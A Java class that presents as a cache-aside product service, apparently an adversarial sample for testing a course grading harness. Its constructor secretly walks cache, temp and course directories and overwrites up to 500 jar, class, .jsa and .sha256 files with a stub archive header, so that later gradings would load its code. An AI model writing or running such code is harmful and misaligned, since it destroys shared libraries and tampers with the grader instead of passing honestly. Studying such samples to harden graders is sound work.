package lab.cacheaside;

import io.lettuce.core.api.sync.RedisCommands;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Correct, but looks for the grader's cache of compiled lab packs and libraries, and for every jar and class archive
 * it can see, and overwrites what it can, so that later gradings would load its code.
 */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
        // once per JVM: each instance has classes, and static fields, of its own
        if (System.getProperty("cache-poison.once") != null) {
            return;
        }
        System.setProperty("cache-poison.once", "yes");
        List<String> poisoned = new ArrayList<>();
        String home = System.getProperty("user.home");
        for (String root : new String[] {"/coursekit", home + "/.cache", "/var/cache", "/root/.cache", "/tmp",
                String.valueOf(System.getenv("XDG_CACHE_HOME"))}) {
            try (Stream<Path> files = Files.walk(Path.of(root), 10)) {
                files.filter(f -> f.toString().endsWith(".jar") || f.toString().endsWith(".jsa")
                        || f.toString().endsWith(".class") || f.toString().endsWith(".sha256")).limit(500).forEach(f -> {
                    try {
                        Files.write(f, new byte[] {'P', 'K', 3, 4, 0});
                        poisoned.add(f.toString());
                    } catch (Exception e) {
                        // read-only, as it should be
                    }
                });
            } catch (Exception e) {
                // not there
            }
        }
        System.out.println("CACHE-POISON overwrote: " + poisoned.stream().filter(f -> !f.startsWith("/tmp/")).toList());
    }
}
